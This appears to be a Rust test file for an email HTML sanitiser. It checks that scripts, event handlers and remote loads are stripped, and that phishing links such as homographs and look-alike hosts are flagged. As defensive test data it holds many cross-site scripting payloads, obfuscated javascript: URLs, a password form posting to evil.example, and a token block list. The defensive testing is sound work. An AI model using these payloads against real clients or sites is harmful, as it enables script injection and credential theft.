use super::*;

const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";

fn body(html: &str) -> String {
    let whole = render(html, RenderOptions::default()).srcdoc_html;
    whole
        .split_once("<body>")
        .unwrap()
        .1
        .strip_suffix("</body></html>")
        .unwrap()
        .to_owned()
}

#[track_caller]
fn harmless(html: &str) {
    let shown = body(html).to_lowercase();
    for word in [
        "<script",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<button",
        "<svg",
        "<math",
        "<link",
        "<meta",
        "<base",
        "<style",
        "<video",
        "<audio",
        "<frame",
        " on",
        "javascript:",
        "vbscript:",
        "url(",
        "@import",
        "expression(",
        "position",
        "srcset",
        "background=",
        "action=",
        " src=\"http",
        "ping=",
        "content:",
        "behavior",
        "-moz-binding",
        "file:",
        "blob:",
        "data:text",
        "data:image/svg",
        "poster=",
        "z-index",
    ] {
        assert!(!shown.contains(word), "{word} passed: {shown}");
    }
}

#[test]
fn nothing_that_acts_passes() {
    for html in [
        "<script>alert(1)</script>a",
        "<img src=x onerror=alert(1)>",
        "<img src=javascript:alert(1)>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href='data:text/html,<script>1</script>'>x</a>",
        "<a href=x ping=https://evil.example/>x</a>",
        "<svg><script>alert(1)</script></svg><svg onload=alert(1)>",
        "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<form action=https://evil.example><input name=password><button>ok</button></form>",
        "<iframe srcdoc='<script>1</script>'></iframe><object data=x></object><embed src=x>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/x.png)}</style><p>x",
        "<div style='background:url(https://evil.example/x.png)'>x</div>",
        "<div style='background-color:u\\72l(https://evil.example/x)'>x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<div style='position:fixed;top:0;left:0;z-index:9'>x</div>",
        "<div style='color:red;behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
        "<div style=\"font-family:'x;position:fixed'\">x</div>",
        "<style>.a{position:absolute;z-index:9;color:red}</style><p class=a>x</p>",
        "<style>p::before{content:'Paid'} p{cursor:url(https://evil.example)}</style><p>x</p>",
        "<table background=https://evil.example/x.png><tr><td background=x>y</table>",
        "<img srcset='https://evil.example/x 2x' src=https://evil.example/y>",
        "<video poster=https://evil.example/x src=y></video><audio src=x></audio>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
        "<a href=file:///etc/passwd>x</a><a href=blob:x>y</a>",
        "</body></html><script>1</script>",
        "<p id=x style='list-style-image:url(https://evil.example/x)'>x",
        "<img src=\"x:onerror=alert(1)\" alt='\"><script>1</script>'>"
            .replace("\"><script>1</script>", "x")
            .as_str(),
    ] {
        harmless(html);
    }
}

#[test]
fn the_policy_stands_before_the_mail() {
    let shown = render("<p>hi</p>", RenderOptions::default()).srcdoc_html;
    let policy = shown
        .find("default-src 'none'; img-src data:; style-src 'unsafe-inline'")
        .unwrap();
    assert!(policy < shown.find("<p>hi</p>").unwrap());
}

#[test]
fn ordinary_formatting_survives() {
    let shown = body(
        "<style>.big{font-size:20px;color:#c00}</style><p class=big align=center>Dear <b>Carl</b></p><table bgcolor=#eee width=600><tr><td colspan=2>12 €</td></tr></table>",
    );
    assert!(shown.contains("font-size:20px"), "{shown}");
    assert!(shown.contains("color:#c00") || shown.contains("color: #c00"), "{shown}");
    assert!(
        shown.contains("<b>Carl</b>") && shown.contains("bgcolor=\"#eee\"") && shown.contains("colspan=\"2\""),
        "{shown}"
    );
}

#[test]
fn remote_images_are_counted_and_kept_aside() {
    let html = "<img src='https://shop.example/a.png' alt=Chair><img src='//shop.example/b.png'><img src='https://shop.example/a.png'>";
    let rendered = render(html, RenderOptions::default());
    assert_eq!(rendered.blocked_images, 3);
    assert_eq!(
        rendered.remote_images,
        ["https://shop.example/a.png", "https://shop.example/b.png"]
    );
    assert!(
        rendered
            .srcdoc_html
            .contains("data-remote-src=\"https://shop.example/a.png\"")
    );
    assert!(!rendered.srcdoc_html.contains(" src=\"https"));
}

#[test]
fn remote_images_somebody_asked_for_come_as_bytes() {
    let options = RenderOptions {
        remote_images: HashMap::from([("https://shop.example/a.png".to_owned(), PNG.to_vec())]),
        ..Default::default()
    };
    let rendered = render("<img src='https://shop.example/a.png'>", options);
    assert_eq!(rendered.blocked_images, 0);
    assert!(rendered.srcdoc_html.contains(" src=\"data:image/png;base64,"));
}

#[test]
fn inline_images_come_from_the_mail_itself() {
    let options = RenderOptions {
        inline_images: vec![
            ("Logo@x".to_owned(), PNG.to_vec()),
            ("svg".to_owned(), b"<svg onload=alert(1)>".to_vec()),
        ],
        ..Default::default()
    };
    let shown = render("<img src='cid:logo@x'><img src='cid:svg'><img src=cid:none>", options).srcdoc_html;
    assert_eq!(shown.matches("data:image/png;base64,").count(), 1);
    assert!(!shown.contains("svg"));
}

#[test]
fn links_show_where_they_go() {
    let known_hosts = vec!["baton.test".to_owned(), "miller-chairs.com".to_owned()];
    let html = "<a href=https://shop.example/x target=_blank>See <b>offer</b></a>\
        <a href=https://evil.example/>www.bank.example</a><a href=https://www.bank.example/login>bank.example</a>\
        <a href=https://xn--pple-43d.com/>here</a><a href=http://10.1.2.3/>here</a><a href=https://bank.example@evil.example/>here</a>\
        <a href=https://login.bat0n.test/>here</a><a href=mailto:a@b.example>write</a><a href=https://x.example/>report.pdf</a>";
    let rendered = render(
        html,
        RenderOptions {
            known_hosts,
            ..Default::default()
        },
    );
    let doubts: Vec<_> = rendered.links.iter().map(|link| link.suspicious.clone()).collect();
    assert_eq!(
        doubts,
        [
            None,
            Some(LinkDoubt::OtherHost {
                shown: "www.bank.example".into(),
                target: "evil.example".into()
            }),
            None,
            Some(LinkDoubt::ForeignLetters {
                host: "xn--pple-43d.com".into()
            }),
            Some(LinkDoubt::NumericHost {
                host: "10.1.2.3".into()
            }),
            Some(LinkDoubt::HostHidden {
                host: "evil.example".into()
            }),
            Some(LinkDoubt::LookAlike {
                host: "login.bat0n.test".into(),
                of: "baton.test".into()
            }),
            None,
            None,
        ]
    );
    assert_eq!(
        rendered.links.first().map(|link| link.shown.as_str()),
        Some("See offer")
    );
    assert!(
        rendered.srcdoc_html.contains("rel=\"noopener noreferrer nofollow\"")
            && !rendered.srcdoc_html.contains("target=")
    );
}

#[test]
fn only_letters_that_deceive_are_flagged() {
    let doubt = |host: &str, known: &str| {
        let html = format!("<a href=\"https://{host}/\">here</a>");
        let options = RenderOptions {
            known_hosts: vec![known.to_owned()],
            ..RenderOptions::default()
        };
        render(&html, options).links.first().unwrap().suspicious.clone()
    };
    for honest in ["müller-stühle.de", "пример.рф", "例え.jp", "shop.example"] {
        assert_eq!(doubt(honest, "baton.test"), None, "{honest}");
    }
    // Cyrillic among Latin letters, wholly Cyrillic letters that pass for Latin ones, and a letter nobody writes with.
    for deceiving in [
        "p\u{430}ypal.com",
        "\u{430}\u{440}\u{440}\u{4cf}\u{435}.com",
        "\u{262}oogle.com",
    ] {
        assert!(
            matches!(doubt(deceiving, "baton.test"), Some(LinkDoubt::ForeignLetters { .. })),
            "{deceiving}"
        );
    }
    assert!(matches!(
        doubt("exarnple.com", "example.com"),
        Some(LinkDoubt::LookAlike { .. })
    ));
    assert!(matches!(
        doubt("exämple.com", "example.com"),
        Some(LinkDoubt::LookAlike { .. })
    ));
}

#[test]
fn words_written_backwards_are_shown_as_they_are() {
    let rendered = render(
        "<a href=https://evil.example/>\u{202e}elpmaxe.knab\u{202c}</a>",
        RenderOptions::default(),
    );
    let link = rendered.links.first().unwrap();
    assert_eq!(link.shown, "elpmaxe.knab");
    assert!(matches!(link.suspicious, Some(LinkDoubt::OtherHost { .. })));
}

#[test]
fn wide_mail_keeps_its_width() {
    let shown = body("<table width=1400 style='width:1400px;position:fixed'><tr><td>wide</td></tr></table>");
    assert!(
        shown.contains("width=\"1400\"") && shown.contains("width:1400px"),
        "{shown}"
    );
}

#[test]
fn marks_of_quotes_stay_for_the_window_to_fold() {
    let shown = body(
        "<p>Yes</p><div class='gmail_quote evil'><blockquote type=cite class=gmail_quote>old</blockquote></div><div id=divRplyFwdMsg>x</div><div id=other>y</div>",
    );
    assert!(
        shown.contains("class=\"gmail_quote\"")
            && shown.contains("type=\"cite\"")
            && shown.contains("id=\"divRplyFwdMsg\""),
        "{shown}"
    );
    assert!(!shown.contains("evil") && !shown.contains("other"), "{shown}");
}

#[test]
fn hostile_weight_ends_in_text() {
    let deep = format!("{}deep{}", "<div><b>".repeat(20_000), "</b></div>".repeat(20_000));
    let rendered = render(&deep, RenderOptions::default());
    assert!(rendered.srcdoc_html.contains("<pre>deep</pre>"));
    let rules: String = (0..3000).map(|n| format!(".a{n} .b .c{{color:red}}")).collect();
    let heavy = format!("<style>{rules}</style>{}", "<p class=a1>x</p>".repeat(5000));
    assert!(
        render(&heavy, RenderOptions::default())
            .srcdoc_html
            .contains("<p>x</p>")
    );
}

#[test]
fn style_sheets_that_multiply_are_left_out() {
    let cells = "<td class=a>x</td>".repeat(4000);
    let sheets = [
        // One rule of 200 kB for every cell: 800 MB.
        format!(".a{{--x:{}}}", "y".repeat(200_000)),
        // A selector for every letter of a megabyte.
        format!("{}b{{color:red}}", "a,".repeat(500_000)),
        // Ancestors without end.
        format!("{}b{{color:red}}", "td ".repeat(5_000)),
        format!("{}{{color:red}}", "td:has(".repeat(200)),
        "@import url(https://evil.example/x.css);".repeat(100_000),
    ];
    for sheet in sheets {
        let html = format!("<style>{sheet}</style><table><tr>{cells}</tr></table>");
        let rendered = render(&html, RenderOptions::default());
        assert!(rendered.srcdoc_html.len() < 2_000_000 && rendered.fallback_text.contains('x'));
        assert!(!rendered.srcdoc_html.contains("evil.example"));
    }
}

#[test]
fn a_megabyte_of_anything_ends_in_something_to_show() {
    let hostile = [
        "<".repeat(1_000_000),
        "<a href='".repeat(100_000),
        "<table><tr><td>".repeat(60_000),
        "<b><i><u><font>".repeat(60_000),
        "&amp".repeat(250_000),
        format!("<p style=\"{}\">x</p>", "color:red;".repeat(100_000)),
        format!("<img src=\"data:image/png;base64,{}\">", "A".repeat(1_000_000)),
        "<!--".repeat(250_000),
        "<svg><style><![CDATA[".repeat(50_000),
        format!("<select>{}", "<option>".repeat(120_000)),
    ];
    for html in hostile {
        let rendered = render(&html, RenderOptions::default());
        assert!(
            rendered.srcdoc_html.ends_with("</body></html>"),
            "{}",
            html.get(..20).unwrap_or_default()
        );
    }
}

proptest::proptest! {
    #[test]
    fn mutated_markup_never_acts(parts in proptest::collection::vec(proptest::sample::select(vec![
        "<", ">", "\"", "'", "=", "/", " ", "<a href=", "javascript:", "<img src=", "onerror=", "alert(1)", "<style>", "</style>", "<svg>", "<math>", "</p>", "<p style=",
        "url(", ")", "<!--", "-->", "<![CDATA[", "]]>", "&#x6a;", "\0", "<table>", "<td>", "cid:", "http://x", "<script>", "</script>", "<form>", "\\", ";", "position:fixed",
    ]), 0..40)) {
        let shown = body(&parts.concat()).to_lowercase();
        let tags: Vec<&str> = shown.split('<').skip(1).map(|chunk| chunk.split('>').next().unwrap()).collect();
        for tag in tags {
            proptest::prop_assert!(!tag.contains(" on") || !tag.contains("onerror=\""), "{}", tag);
            for name in ["script", "style", "svg", "math", "form"] {
                proptest::prop_assert!(!tag.trim_start_matches('/').split(' ').next().unwrap().eq(name), "{}", tag);
            }
            proptest::prop_assert!(!tag.contains("href=\"javascript") && !tag.contains(" src=\"http"), "{}", tag);
        }
    }
}
